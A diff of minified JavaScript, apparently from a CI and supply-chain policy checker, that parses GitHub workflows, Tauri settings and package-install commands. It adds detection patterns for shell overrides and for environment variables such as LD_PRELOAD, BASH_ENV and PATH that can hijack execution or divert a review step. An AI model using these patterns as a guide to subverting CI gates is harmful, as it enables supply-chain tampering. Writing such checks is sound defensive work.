-void 0:operands.slice(1);if(program2==="go"&&command2==="install")return operands.slice(1);if(program2==="gem"&&command2==="install")return has4("-v","--version")?
-void 0:operands.slice(1)}function isExact(name,program2){return/^[./]|^[A-Za-z]:|^\$|\.(?:whl|tgz)$/.test(name)?!0:/^pip/.test(program2)||/^python/.test(program2)?
-/==/.test(name):/@v?\d+\.\d+\.\d+|@[\da-f]{40}$/.test(name)}function nameOf5(name){return name.replace(/(?<=.)@.*$|[=<>~!].*$/,"")}var MATTERS=/tauri|secrets|write|pull_request_target|workflow_run|issue|discussion|uses\s*['"]?\s*:/i;
+[command2=""]=operands,has4=(...flags2)=>words4.some(word2=>flags2.includes(word2.split("=",1)[0]??"")),isListed=has4("-r","--requirement")&&!words4.some(word2=>ADDRESS4.
+test(word2));if(/^(?:npx|bunx|pnpx)$/.test(program2))return has4("-y","--yes","-p","--package")||/@/.test(command2.slice(1))?operands.slice(0,1):void 0;if(program2===
+"uvx")return operands.slice(0,1);if(/^(?:pnpm|yarn)$/.test(program2)&&command2==="dlx")return operands.slice(1,2);if(/^(?:npm|pnpm|yarn|bun)$/.test(program2)&&(has4(
+"-g","--global")||command2==="global"))return/^(?:i|install|add|global)$/.test(command2)?operands.slice(command2==="global"?2:1):void 0;if(/^(?:pip3?|pipx)$/.test(
+program2)&&command2==="install")return isListed||has4("--require-hashes","-e")?void 0:operands.slice(1);if(/^python3?$/.test(program2)&&words4[0]==="-m"&&words4[1]===
+"pip"&&words4[2]==="install")return isListed?void 0:operands.slice(2);if(program2==="cargo"&&/^(?:install|binstall)$/.test(command2))return has4("--git")&&!has4(
+"--rev")?[repositoryIn2(words4)]:has4("--locked","--version","--vers","--path","--frozen")?void 0:operands.slice(1);if(program2==="go"&&command2==="install")return operands.
+slice(1);if(program2==="gem"&&command2==="install")return has4("-v","--version")?void 0:operands.slice(1)}function repositoryIn2(words4){return(words4.find(word2=>/[/:]/.
+test(word2))??"--git").replace(/^.*:\/\//,"").replace(/@.*$/,"")}function isExact(name,program2){return ADDRESS4.test(name)?/[@#][\da-f]{40}$/.test(name)||isVersioned(
+name):/^[./]|^[A-Za-z]:|^\$|\.(?:whl|tgz)$/.test(name)?!0:/^pip/.test(program2)||/^python/.test(program2)?/==/.test(name):/@v?\d+\.\d+\.\d+|@[\da-f]{40}$/.test(
+name)}function nameOf6(name){return name.replace(/(?<=.)@.*$|[=<>~!].*$/,"")}var MATTERS=/tauri|secrets|write|pull_request_target|workflow_run|issue|discussion|uses\s*['"]?\s*:/i;
 function unreadGaps(file2){const parsed10=parseFile(file2),rests=(0,import_shared_acegos.contentOf)(file2);if(!parsed10.ok){if(handsSomethingOver(file2.text))return[];
 const message2=`This workflow can't be read, so what its jobs run and what they may do isn't known: ${parsed10.message}`,blocking=MATTERS.test(file2.text)||seemsToShip(
 file2.text);return[(0,import_shared_acegos.gapAt)(parsed10.at,{kind:"unparsed",rests,message:message2,blocking})]}const jobs=member(parsed10.value,"jobs");if(jobs?.
@@ -9280,9 +9364,9 @@ kind!=="object"||jobs.entries.size<=MOST_JOBS)return[];const message=`This workf
 (0,import_shared_acegos.gapAt)(jobs.at,{kind:"truncated",rests,message})]}var workflows={id:"workflows",scope:"repository",files:FILES10,read({files}){const own=[
 ...files.values()].filter(({path})=>isWorkflow(path));return{grants:jobsIn(own).flatMap(job=>[...actionGrants(job),...toolGrants(job),...tokenGrants(job),...heldTokens(
 job),...untrustedGrants(job),...secretGrants(job),...replacedGrants2(job),...sentGrants(job)]),gaps:own.flatMap(unreadGaps)}}},readers=[assetProtocol,buildSteps,
-cargoDeny,cargoLock,cargoManifest,csp,npmPackages,opening2,rustCommands,tauriAcl,tauriAllowlist,tauriConfig,workflows],MOST_LINES5=1e4,LONGEST_LINE5=2047,BLANK2="\
+cargoDeny,cargoLock,cargoManifest,csp,npmPackages,opening2,rustCommands,tauriAcl,tauriAllowlist,tauriConfig,workflows],MOST_LINES6=1e4,LONGEST_LINE5=2047,BLANK2="\
  	\r",MACRO="[attr]";function readGitAttributes(text3){const rules2=[],macros=[],unclear=[];for(const[index,written6]of text3.split(`
-`,MOST_LINES5+1).entries()){const line=index+1;if(isUnclear(written6)||line>MOST_LINES5){unclear.push({line,text:written6});continue}const read11=lineOf4(Buffer.
+`,MOST_LINES6+1).entries()){const line=index+1;if(isUnclear(written6)||line>MOST_LINES6){unclear.push({line,text:written6});continue}const read11=lineOf4(Buffer.
 from(written6,"utf8").toString("latin1"));read11!==void 0&&("name"in read11?macros.push({...read11,line}):rules2.push({...read11,line}))}return{rules:rules2,macros,
 unclear}}function isUnclear(line){return/^\uFEFF|\0|[ \t][-!]?builtin_/.test(line)||Buffer.byteLength(line,"utf8")>LONGEST_LINE5}function lineOf4(line){const start=passed2(
 line,0);if(start===line.length||line[start]==="#")return;const{text:text3,end}=quotedAt(line,start)??wordAt2(line,start);if(text3.startsWith(MACRO)&&text3.length>
@@ -9347,75 +9431,82 @@ indexOf(other)?one3:other}var SOURCES4={of:({trustedSources})=>trustedSources,id
 get(sourceSetting(source))},TRUSTED2={of:({trust})=>trust,identity:import_shared_ce.trustedName,name:import_shared_ce.trustedName,setting:trustSetting,at:(each,set)=>set.
 get(trustSetting(each))},WAIVERS={of:({waivers})=>waivers,identity:waiver=>`${waiver.until} ${(0,import_shared_aces.waivedKey)(waiver)}`,name:import_shared_aces.waivedName,
 setting:()=>null,at:({at:at2})=>at2};function sourceSetting(source){return`trusted-sources: ${source}`}function trustSetting(trusted){return`trust: ${(0,import_shared_ce.trustedName)(
-trusted)}`}var USUAL5={pull_request:["opened","synchronize","reopened"],pull_request_target:["opened","synchronize","reopened"],merge_group:["checks_requested"],
-push:[""]},FILTERS2=[{key:"types",of:"type",isIgnoring:!1},{key:"branches",of:"branch",isIgnoring:!1},{key:"branches-ignore",of:"branch",isIgnoring:!0},{key:"pa\
-ths",of:"path",isIgnoring:!1},{key:"paths-ignore",of:"path",isIgnoring:!0}];function triggersIn(on3){return eventsIn(on3).flatMap(([event2,options,at2])=>{const usual=Object.
-hasOwn(USUAL5,event2)?USUAL5[event2]:void 0;if(usual===void 0)return[];const filters=filtersIn(event2,options),types=filters.find(({of:of2})=>of2==="type")?.patterns??
-usual;return[{event:event2,types:[...types],filters,at:at2}]})}function eventsIn(on3){if(on3.kind==="object")return[...on3.entries].map(([name,{key:key3,value}])=>[
-name,value,key3]);const names4=on3.kind==="array"?itemsOf(on3):[on3];return[...new Map(names4.map(name=>[asString(name)??"",name.at]))].map(([name,at2])=>[name,
-void 0,at2])}function filtersIn(event2,options){const filters=FILTERS2.flatMap(({key:key3,of:of2,isIgnoring})=>{const value=member(options,key3);if(value===void 0)
-return[];const patterns3=(value.kind==="array"?itemsOf(value):[value]).map(each=>asString(each)??"");return[{...{setting:`on: ${event2}: ${key3}`,text:patterns3.
-join(", "),at:value.at},of:of2,patterns:new Set(patterns3),isIgnoring}]}),tags=member(options,"tags")??member(options,"tags-ignore");if(tags===void 0||filters.some(
-({of:of2})=>of2==="branch"))return filters;const setting44=`on: ${event2}: tags`;return[...filters,{setting:setting44,text:"",at:tags.at,of:"branch",patterns:new Set,
-isIgnoring:!1}]}var MOST_GATES=20,ACTION=/^(?<name>[\w.-]+\/toril(?:\/[\w./-]+)?)@(?<version>\S+)$/i,PINNED3=/^[\da-f]{40}(?:[\da-f]{24})?$/i,COMMAND=/\btoril\s+review\b/,
-WRITES_ONLY=/\s--(?:format|output|cache)[= ]\S+|\s(?:--details|--quiet|-q)\b/g,FORGIVES=/\bset \+e\b|\|\||\bexit 0\b|;\s*true\b/,ALWAYS3=/^(?:always\(\)|success\(\)|!\s*cancelled\(\)|true)$/;
+trusted)}`}var PLAIN_SHELL=/^(?:bash|sh|pwsh|powershell|cmd|(?:bash|sh)(?: --noprofile| --norc| -l)* -[lux]*e[lux]*(?:o pipefail)? \{0\})$/,DECIDING_VARIABLE=/^(?:PATH|BASH_ENV|LD_PRELOAD|npm_config_registry)$/i;
+function surroundingsIn(value){return[...[value,member(member(value,"defaults"),"run")].flatMap(each=>saidIn(each,"shell")??[]).filter(({text:text3})=>!PLAIN_SHELL.
+test(text3)),...containerIn(value),...variablesIn6(member(value,"env"))]}function containerIn(value){const container2=member(value,"container"),image=asString(container2)??
+asString(member(container2,"image"));return container2===void 0||image===void 0?[]:[{setting:"container",text:image.replace(/@.*$/s,"").replace(/:[^:/]*$/,""),at:container2.
+at}]}function variablesIn6(env){return(env?.kind==="object"?[...env.entries]:[]).filter(([name])=>DECIDING_VARIABLE.test(name)).map(([name,{key:key3,value}])=>({
+setting:"env",text:`${name}: ${asString(value)??""}`,at:key3}))}function saidIn(value,setting44){const said2=member(value,setting44);if(said2===void 0||said2.kind===
+"null")return;const text3=asString(said2)??[plain(said2)].flat().map(String).join(", ");return{setting:setting44,text:text3,at:said2.at}}var USUAL5={pull_request:[
+"opened","synchronize","reopened"],pull_request_target:["opened","synchronize","reopened"],merge_group:["checks_requested"],push:[""]},FILTERS2=[{key:"types",of:"\
+type",isIgnoring:!1},{key:"branches",of:"branch",isIgnoring:!1},{key:"branches-ignore",of:"branch",isIgnoring:!0},{key:"paths",of:"path",isIgnoring:!1},{key:"pa\
+ths-ignore",of:"path",isIgnoring:!0}];function triggersIn(on3){return eventsIn(on3).flatMap(([event2,options,at2])=>{const usual=Object.hasOwn(USUAL5,event2)?USUAL5[event2]:
+void 0;if(usual===void 0)return[];const filters=filtersIn(event2,options),types=filters.find(({of:of2})=>of2==="type")?.patterns??usual;return[{event:event2,types:[
+...types],filters,at:at2}]})}function eventsIn(on3){if(on3.kind==="object")return[...on3.entries].map(([name,{key:key3,value}])=>[name,value,key3]);const names4=on3.
+kind==="array"?itemsOf(on3):[on3];return[...new Map(names4.map(name=>[asString(name)??"",name.at]))].map(([name,at2])=>[name,void 0,at2])}function filtersIn(event2,options){
+const filters=FILTERS2.flatMap(({key:key3,of:of2,isIgnoring})=>{const value=member(options,key3);if(value===void 0)return[];const patterns3=(value.kind==="array"?
+itemsOf(value):[value]).map(each=>asString(each)??"");return[{...{setting:`on: ${event2}: ${key3}`,text:patterns3.join(", "),at:value.at},of:of2,patterns:new Set(
+patterns3),isIgnoring}]}),tags=member(options,"tags")??member(options,"tags-ignore");if(tags===void 0||filters.some(({of:of2})=>of2==="branch"))return filters;const setting44=`\
+on: ${event2}: tags`;return[...filters,{setting:setting44,text:"",at:tags.at,of:"branch",patterns:new Set,isIgnoring:!1}]}var MOST_GATES=20,ACTION=/^(?<name>[\w.-]+\/toril(?:\/[\w./-]+)?)@(?<version>\S+)$/i,
+PINNED3=/^[\da-f]{40}(?:[\da-f]{24})?$/i,COMMAND=/\btoril\s+review\b/,WRITES_ONLY=/\s--(?:format|output|cache)[= ]\S+|\s(?:--details|--quiet|-q)\b/g,FORGIVES=/\bset \+e\b|\|\||\bexit\b|;\s*true\b/,
+DIVERTS=/^\s*(?:if|while|until|case|for|function|alias|trap|exec|hash|(?:export\s+)?PATH=|[\w-]+\s*\(\))|<</,ALWAYS3=/^(?:always\(\)|success\(\)|!\s*cancelled\(\)|true)$/;
 function gatesIn(files){if(!files.some(({text:text3})=>/toril/i.test(text3)))return[];const parsed10=new Map(files.flatMap(file2=>{const read11=parseFile(file2);
 return read11.ok?[[file2.path,read11.value]]:[]}));return[...parsed10].flatMap(([path,workflow])=>ofWorkflow(path,workflow,parsed10)).slice(0,MOST_GATES)}function ofWorkflow(path,workflow,files){
-const on3=member(workflow,"on")??member(workflow,"true");if(on3===void 0)return[];const around2={path,triggers:triggersIn(on3),on:on3.at,conditions:[],lenient:null};
-return jobsOf2(workflow).flatMap(job=>ofJob(job,around2,files))}function jobsOf2(workflow){const jobs=member(workflow,"jobs");return jobs?.kind==="object"?[...jobs.
-entries.values()].map(({value})=>value):[]}function ofJob(job,outside,files){const around2=within4(job,outside),called3=files.get(ownPath(job)??"");return(called3===
-void 0?[job]:jobsOf2(called3)).flatMap(each=>{const inner=each===job?around2:within4(each,around2);return itemsOf(member(each,"steps")).flatMap(step=>ofStep(step,
-inner,files))})}function ofStep(step,outside,files){const around2=within4(step,outside),folder=ownPath(step),action=["action.yml","action.yaml"].map(name=>files.
-get(`${folder}/${name}`)).find(each=>each!==void 0),steps=itemsOf(member(member(action,"runs"),"steps"));return[gateOf(step,around2)??[],...steps.map(each=>gateOf(
-each,within4(each,around2))??[])].flat()}function ownPath(value){const uses=asString(member(value,"uses"));return uses?.startsWith("./")?uses.slice(2).replace(/\/$/,
-""):void 0}function gateOf(step,around2){const[uses,run]=[member(step,"uses"),member(step,"run")],{name,version}=ACTION.exec(asString(uses)??"")?.groups??{};if(uses!==
-void 0&&name!==void 0&&version!==void 0){const text3=`${name.toLowerCase()}@${version}`,movable=PINNED3.test(version)?null:text3,said3={setting:"uses",text:asString(
-uses)??"",at:uses.at};return{...around2,run:said3,name:name.toLowerCase(),movable,failOn:failOnIn(step)}}const command2=run===void 0?void 0:commandIn4(asString(
-run)??"");if(run===void 0||command2===void 0)return;const said2={setting:"run",text:command2,at:run.at};return{...around2,run:said2,name:command2,movable:null,failOn:null}}
-function commandIn4(script){const lines2=script.replaceAll(/\\\r?\n/g," ").split(`
-`);return lines2.some(line=>COMMAND.test(line))?lines2.filter(line=>COMMAND.test(line)||FORGIVES.test(line)).map(line=>line.replaceAll(/\s+/g," ").replaceAll(WRITES_ONLY,
-"").trim()).join("; "):void 0}function failOnIn(step){const value=member(member(step,"with"),"fail-on"),severity=import_shared_aceps.SEVERITIES.find(each=>each===
-asString(value)?.trim());return value===void 0||severity===void 0?null:{setting:"fail-on",text:severity,at:value.at,severity}}function within4(value,around2){const condition=saidIn(
-value,"if"),text3=condition?.text.replace(/^\$\{\{(.*)\}\}$/s,"$1").replaceAll(/\s+/g," ").trim()??"",isAlways=ALWAYS3.test(text3),needs=isAlways&&text3!=="succ\
-ess()"?void 0:saidIn(value,"needs"),forgiving=saidIn(value,"continue-on-error");return{...around2,conditions:[...around2.conditions,...condition===void 0||isAlways?
-[]:[{...condition,text:text3}],...needs===void 0?[]:[needs]],lenient:around2.lenient??(forgiving?.text==="false"?null:forgiving??null)}}function saidIn(value,setting44){
-const said2=member(value,setting44);if(said2===void 0||said2.kind==="null")return;const text3=asString(said2)??[plain(said2)].flat().map(String).join(", ");return{
-setting:setting44,text:text3,at:said2.at}}var MOST_LOGINS=100,LOGIN=/^[A-Za-z0-9](?:[A-Za-z0-9_-]{0,98}[A-Za-z0-9])?$/;function readAccept(value,otherwise,note4,placed){
-if(value.kind==="null")return otherwise;if(value.kind!=="object")return note4(value.at,`${(0,import_shared_acegpst.code)("accept")} holds ${(0,import_shared_acegpst.code)(
-"by")} and ${(0,import_shared_acegpst.code)("own")}, such as ${(0,import_shared_acegpst.code)("by: admin")}.`),otherwise;let rule=otherwise;for(const[name,{key:key3,
-value:part}]of value.entries)placed(`accept: ${name}`,key3),name==="by"?rule={...rule,by:acceptorsIn(part,note4)??rule.by}:name==="own"?rule={...rule,own:switchIn(
-part,note4)??rule.own}:note4(key3,`${(0,import_shared_acegpst.code)("accept")} has no ${(0,import_shared_acegpst.code)(name)}; it has ${(0,import_shared_acegpst.code)(
-"by")} and ${(0,import_shared_acegpst.code)("own")}.`);return rule}function acceptorsIn(value,note4){const text3=asString(value),role=import_shared_aes.ACCEPTING_ROLES.
-find(each=>each===text3);if(role!==void 0)return role;const logins=(value.kind==="array"?value.items:[]).map(item=>asString(item)??"");if(logins.length>0&&logins.
-length<=MOST_LOGINS&&logins.every(login2=>LOGIN.test(login2)))return logins;note4(value.at,`${(0,import_shared_acegpst.code)("accept: by")} takes ${import_shared_aes.ACCEPTING_ROLES.
-slice(0,-1).join(", ")} or ${import_shared_aes.ACCEPTING_ROLES.at(-1)}, or lists at most ${MOST_LOGINS} logins, such as ${(0,import_shared_acegpst.code)("[kim]")}\
-.`)}function switchIn(value,note4){if(value.kind==="boolean")return value.value;note4(value.at,`${(0,import_shared_acegpst.code)("accept: own")} takes true or f\
-alse.`)}var ORGANIZATION="organization";function readExtends(value,note4){return asString(value)===ORGANIZATION?!0:(note4(value.at,`${(0,import_shared_acegpst.code)(
-"extends")} takes ${(0,import_shared_acegpst.code)(ORGANIZATION)}: no other policy can be extended.`),!1)}function readMayLoosen(value,set,note4){const keys=new Set;
-value.kind!=="array"&&value.kind!=="null"&&note4(value.at,`${(0,import_shared_acegpst.code)("may-loosen")} is a list of ${NAMES4}.`);for(const item of itemsOf(value)){
-const key3=import_shared_aces.LOOSENABLE.find(each=>each===asString(item));key3===void 0?note4(item.at,`${(0,import_shared_acegpst.code)("may-loosen")} lists ${NAMES4}\
-.`):(keys.add(key3),set.set(`may-loosen: ${key3}`,item.at))}return keys}var NAMES4=import_shared_aces.LOOSENABLE.map(key3=>(0,import_shared_acegpst.code)(key3)).
-join(", ");function newSourceOf(change2){if(change2.domain!=="packages")return null;if(change2.rule==="packages/source-changed")return change2.owners===1&&change2.
-tie!=="release"?plainAddress((0,import_shared_ce.addressOf)(change2.source)):null;if(change2.rule!=="packages/source-replaced"||change2.setting.decides!=="sourc\
-e")return null;const{source,written:written6}=change2.setting;return source!==void 0?plainAddress((0,import_shared_ce.addressOf)(source)):change2.packages.length>
-1?null:plainAddress(written6)}function plainAddress(text3){const[address,...others]=text3.match(ADDRESS5)??[];if(address===void 0||others.length>0||!address.startsWith(
-"https://")||!URL.canParse(address))return null;const{origin,pathname,username,password}=new URL(address);return username===""&&password===""?`${origin}${pathname}`:
-null}var ADDRESS5=/(?:https?:|\/\/)[^\s"'`,{}]*/gi;function trustedAddress(text3){if(!URL.canParse(text3))return;const{protocol,pathname,username,password,search:search2,
-hash,href}=new URL(text3),isPlain=`${username}${password}${search2}${hash}`=="";return protocol==="https:"&&pathname!=="/"&&isPlain?href:void 0}var MOST_PACKAGES2=200,
-LISTS4={crates:"cargo",npm:"npm"},NAMES5={cargo:/^[A-Za-z0-9][A-Za-z0-9_-]*$/,npm:/^(?:@[a-z0-9~_-][a-z0-9._~-]*\/)?[a-z0-9~_-][a-z0-9._~-]*$|^@[a-z0-9~_-][a-z0-9._~-]*\/\*$/},
-EXAMPLE="{ crates: [ring], from: crates.io }";function readTrust(value,note4){if(value.kind==="null")return[];if(value.kind!=="array")return note4(value.at,`${(0,import_shared_acegpst.code)(
-"trust")} is a list, such as ${(0,import_shared_acegpst.code)(`[${EXAMPLE}]`)}.`),[];const trusted=value.items.flatMap(item=>membersIn(item,note4));return trusted.
-length>MOST_PACKAGES2&&note4(value.at,`${(0,import_shared_acegpst.code)("trust")} names at most ${MOST_PACKAGES2} packages.`),trusted.slice(0,MOST_PACKAGES2)}function isTrustable(code2){
-const{ecosystem,name,from}=code2;return from===null||!NAMES5[ecosystem].test(name)?!1:from===import_shared_ce.REGISTRIES[ecosystem]||trustedAddress(from)===from}
-function membersIn(item,note4){const entries=item.kind==="object"?[...item.entries]:[],[list,...others]=entries.filter(([key3])=>Object.hasOwn(LISTS4,key3)),source=entries.
-find(([key3])=>key3==="from");for(const[key3,{key:at2}]of entries)key3!=="from"&&!Object.hasOwn(LISTS4,key3)&&note4(at2,`${(0,import_shared_acegpst.code)("trust")}\
- has no ${(0,import_shared_acegpst.code)(key3)}; it has ${(0,import_shared_acegpst.code)("crates")} or ${(0,import_shared_acegpst.code)("npm")}, and ${(0,import_shared_acegpst.code)(
-"from")}.`);if(list===void 0||source===void 0||others.length>0)return note4(item.at,`Each member of ${(0,import_shared_acegpst.code)("trust")} names packages an\
-d where they come from, such as ${(0,import_shared_acegpst.code)(EXAMPLE)}.`),[];const ecosystem=LISTS4[list[0]]??"npm",from=fromIn(source[1].value,ecosystem,note4),
-names4=namesIn8(list[1].value,ecosystem,note4);return from===void 0?[]:names4.map(({name,at:at2})=>({trusted:{ecosystem,name,from},at:at2}))}function fromIn(value,ecosystem,note4){
-const text3=asString(value)??"",from=text3===import_shared_ce.REGISTRIES[ecosystem]?text3:trustedAddress(text3);return from===void 0&&note4(value.at,`${(0,import_shared_acegpst.code)(
+const on3=member(workflow,"on")??member(workflow,"true");if(on3===void 0)return[];const around2=within4(workflow,{path,triggers:triggersIn(on3),on:on3.at,conditions:[],
+lenient:null});return jobsOf2(workflow).flatMap(job=>ofJob(job,around2,files))}function jobsOf2(workflow){const jobs=member(workflow,"jobs");return jobs?.kind===
+"object"?[...jobs.entries.values()].map(({value})=>value):[]}function ofJob(job,outside,files){const around2=within4(job,outside),called4=files.get(ownPath(job)??
+"");return(called4===void 0?[job]:jobsOf2(called4)).flatMap(each=>{const inner=each===job?around2:within4(each,around2);return itemsOf(member(each,"steps")).flatMap(
+step=>ofStep(step,inner,files))})}function ofStep(step,outside,files){const around2=within4(step,outside),folder=ownPath(step),action=["action.yml","action.yaml"].
+map(name=>files.get(`${folder}/${name}`)).find(each=>each!==void 0),steps=itemsOf(member(member(action,"runs"),"steps"));return[gateOf(step,around2)??[],...steps.
+map(each=>gateOf(each,within4(each,around2))??[])].flat()}function ownPath(value){const uses=asString(member(value,"uses"));return uses?.startsWith("./")?uses.slice(
+2).replace(/\/$/,""):void 0}function gateOf(step,around2){const[uses,run]=[member(step,"uses"),member(step,"run")],{name,version}=ACTION.exec(asString(uses)??"")?.
+groups??{};if(uses!==void 0&&name!==void 0&&version!==void 0){const text3=`${name.toLowerCase()}@${version}`,movable=PINNED3.test(version)?null:text3,said3={setting:"\
+uses",text:asString(uses)??"",at:uses.at},conditions=around2.conditions.filter(({setting:setting44})=>setting44!=="shell");return{...around2,conditions,run:said3,
+name:name.toLowerCase(),movable,failOn:failOnIn(step)}}const command2=run===void 0?void 0:commandIn4(asString(run)??"");if(run===void 0||command2===void 0)return;
+const said2={setting:"run",text:command2,at:run.at};return{...around2,run:said2,name:command2,movable:null,failOn:null}}function commandIn4(script){const lines2=script.
+replaceAll(/\\\r?\n/g," ").split(`
+`);return lines2.some(line=>COMMAND.test(line))?lines2.filter(line=>[COMMAND,FORGIVES,DIVERTS].some(form=>form.test(line))).map(line=>line.replaceAll(/\s+/g," ").
+replaceAll(WRITES_ONLY,"").trim()).join("; "):void 0}function failOnIn(step){const value=member(member(step,"with"),"fail-on"),severity=import_shared_aceps.SEVERITIES.
+find(each=>each===asString(value)?.trim());return value===void 0||severity===void 0?null:{setting:"fail-on",text:severity,at:value.at,severity}}function within4(value,around2){
+const condition=saidIn(value,"if"),text3=condition?.text.replace(/^\$\{\{(.*)\}\}$/s,"$1").replaceAll(/\s+/g," ").trim()??"",isAlways=ALWAYS3.test(text3),needs=isAlways&&
+text3!=="success()"?void 0:saidIn(value,"needs"),forgiving=saidIn(value,"continue-on-error");return{...around2,conditions:[...around2.conditions,...condition===
+void 0||isAlways?[]:[{...condition,text:text3}],...needs===void 0?[]:[needs],...surroundingsIn(value)],lenient:around2.lenient??(forgiving?.text==="false"?null:
+forgiving??null)}}var MOST_LOGINS=100,LOGIN=/^[A-Za-z0-9](?:[A-Za-z0-9_-]{0,98}[A-Za-z0-9])?$/;function readAccept(value,otherwise,note4,placed){if(value.kind===
+"null")return otherwise;if(value.kind!=="object")return note4(value.at,`${(0,import_shared_acegpst.code)("accept")} holds ${(0,import_shared_acegpst.code)("by")}\
+ and ${(0,import_shared_acegpst.code)("own")}, such as ${(0,import_shared_acegpst.code)("by: admin")}.`),otherwise;let rule=otherwise;for(const[name,{key:key3,value:part}]of value.
+entries)placed(`accept: ${name}`,key3),name==="by"?rule={...rule,by:acceptorsIn(part,note4)??rule.by}:name==="own"?rule={...rule,own:switchIn(part,note4)??rule.
+own}:note4(key3,`${(0,import_shared_acegpst.code)("accept")} has no ${(0,import_shared_acegpst.code)(name)}; it has ${(0,import_shared_acegpst.code)("by")} and ${(0,import_shared_acegpst.code)(
+"own")}.`);return rule}function acceptorsIn(value,note4){const text3=asString(value),role=import_shared_aes.ACCEPTING_ROLES.find(each=>each===text3);if(role!==void 0)
+return role;const logins=(value.kind==="array"?value.items:[]).map(item=>asString(item)??"");if(logins.length>0&&logins.length<=MOST_LOGINS&&logins.every(login2=>LOGIN.
+test(login2)))return logins;note4(value.at,`${(0,import_shared_acegpst.code)("accept: by")} takes ${import_shared_aes.ACCEPTING_ROLES.slice(0,-1).join(", ")} or\
+ ${import_shared_aes.ACCEPTING_ROLES.at(-1)}, or lists at most ${MOST_LOGINS} logins, such as ${(0,import_shared_acegpst.code)("[kim]")}.`)}function switchIn(value,note4){
+if(value.kind==="boolean")return value.value;note4(value.at,`${(0,import_shared_acegpst.code)("accept: own")} takes true or false.`)}var ORGANIZATION="organizat\
+ion";function readExtends(value,note4){return asString(value)===ORGANIZATION?!0:(note4(value.at,`${(0,import_shared_acegpst.code)("extends")} takes ${(0,import_shared_acegpst.code)(
+ORGANIZATION)}: no other policy can be extended.`),!1)}function readMayLoosen(value,set,note4){const keys=new Set;value.kind!=="array"&&value.kind!=="null"&&note4(
+value.at,`${(0,import_shared_acegpst.code)("may-loosen")} is a list of ${NAMES4}.`);for(const item of itemsOf(value)){const key3=import_shared_aces.LOOSENABLE.find(
+each=>each===asString(item));key3===void 0?note4(item.at,`${(0,import_shared_acegpst.code)("may-loosen")} lists ${NAMES4}.`):(keys.add(key3),set.set(`may-loosen\
+: ${key3}`,item.at))}return keys}var NAMES4=import_shared_aces.LOOSENABLE.map(key3=>(0,import_shared_acegpst.code)(key3)).join(", ");function newSourceOf(change2){
+if(change2.domain!=="packages")return null;if(change2.rule==="packages/source-changed")return change2.owners===1&&change2.tie!=="release"?plainAddress((0,import_shared_ce.addressOf)(
+change2.source)):null;if(change2.rule!=="packages/source-replaced"||change2.setting.decides!=="source")return null;const{source,written:written6}=change2.setting;
+return source!==void 0?plainAddress((0,import_shared_ce.addressOf)(source)):change2.packages.length>1?null:plainAddress(written6)}function plainAddress(text3){const[
+address,...others]=text3.match(ADDRESS5)??[];if(address===void 0||others.length>0||!address.startsWith("https://")||!URL.canParse(address))return null;const{origin,
+pathname,username,password}=new URL(address);return username===""&&password===""?`${origin}${pathname}`:null}var ADDRESS5=/(?:https?:|\/\/)[^\s"'`,{}]*/gi;function trustedAddress(text3){
+if(!URL.canParse(text3))return;const{protocol,pathname,username,password,search:search2,hash,href}=new URL(text3),isPlain=`${username}${password}${search2}${hash}`==
+"";return protocol==="https:"&&pathname!=="/"&&isPlain?href:void 0}var MOST_PACKAGES2=200,LISTS4={crates:"cargo",npm:"npm"},NAMES5={cargo:/^[A-Za-z0-9][A-Za-z0-9_-]*$/,
+npm:/^(?:@[a-z0-9~_-][a-z0-9._~-]*\/)?[a-z0-9~_-][a-z0-9._~-]*$|^@[a-z0-9~_-][a-z0-9._~-]*\/\*$/},EXAMPLE="{ crates: [ring], from: crates.io }";function readTrust(value,note4){
+if(value.kind==="null")return[];if(value.kind!=="array")return note4(value.at,`${(0,import_shared_acegpst.code)("trust")} is a list, such as ${(0,import_shared_acegpst.code)(
+`[${EXAMPLE}]`)}.`),[];const trusted=value.items.flatMap(item=>membersIn(item,note4));return trusted.length>MOST_PACKAGES2&&note4(value.at,`${(0,import_shared_acegpst.code)(
+"trust")} names at most ${MOST_PACKAGES2} packages.`),trusted.slice(0,MOST_PACKAGES2)}function isTrustable(code2){const{ecosystem,name,from}=code2;return from===
+null||!NAMES5[ecosystem].test(name)?!1:from===import_shared_ce.REGISTRIES[ecosystem]||trustedAddress(from)===from}function membersIn(item,note4){const entries=item.
+kind==="object"?[...item.entries]:[],[list,...others]=entries.filter(([key3])=>Object.hasOwn(LISTS4,key3)),source=entries.find(([key3])=>key3==="from");for(const[
+key3,{key:at2}]of entries)key3!=="from"&&!Object.hasOwn(LISTS4,key3)&&note4(at2,`${(0,import_shared_acegpst.code)("trust")} has no ${(0,import_shared_acegpst.code)(
+key3)}; it has ${(0,import_shared_acegpst.code)("crates")} or ${(0,import_shared_acegpst.code)("npm")}, and ${(0,import_shared_acegpst.code)("from")}.`);if(list===
+void 0||source===void 0||others.length>0)return note4(item.at,`Each member of ${(0,import_shared_acegpst.code)("trust")} names packages and where they come from\
+, such as ${(0,import_shared_acegpst.code)(EXAMPLE)}.`),[];const ecosystem=LISTS4[list[0]]??"npm",from=fromIn(source[1].value,ecosystem,note4),names4=namesIn9(list[1].
+value,ecosystem,note4);return from===void 0?[]:names4.map(({name,at:at2})=>({trusted:{ecosystem,name,from},at:at2}))}function fromIn(value,ecosystem,note4){const text3=asString(
+value)??"",from=text3===import_shared_ce.REGISTRIES[ecosystem]?text3:trustedAddress(text3);return from===void 0&&note4(value.at,`${(0,import_shared_acegpst.code)(
 "from")} takes ${(0,import_shared_acegpst.code)(import_shared_ce.REGISTRIES[ecosystem])}, or an address with ${(0,import_shared_acegpst.code)("https")} and a pa\
-th, such as ${(0,import_shared_acegpst.code)("https://github.com/your-organisation")}.`),from}function namesIn8(value,ecosystem,note4){const items=value.kind===
+th, such as ${(0,import_shared_acegpst.code)("https://github.com/your-organisation")}.`),from}function namesIn9(value,ecosystem,note4){const items=value.kind===
 "array"?value.items:[];return items.length===0&&note4(value.at,`${(0,import_shared_acegpst.code)("trust")} lists the names of packages, such as ${(0,import_shared_acegpst.code)(
 "[ring]")}.`),items.flatMap(item=>{const name=asString(item)??"";if(NAMES5[ecosystem].test(name))return[{name,at:item.at}];const scope=ecosystem==="npm"?`, or a\
  whole scope, such as ${(0,import_shared_acegpst.code)("@tauri-apps/*")}`:"";return note4(item.at,`${(0,import_shared_acegpst.code)("trust")} takes whole names \
@@ -9477,12 +9568,12 @@ wanted),this.set.set(`rules: ${id}`,key3)}return settings3}#sources(value){retur
 item)??"");return address!==void 0?(this.set.set(`trusted-sources: ${address}`,item.at),[address]):(this.#note(item.at,`${(0,import_shared_acegpst.code)("truste\
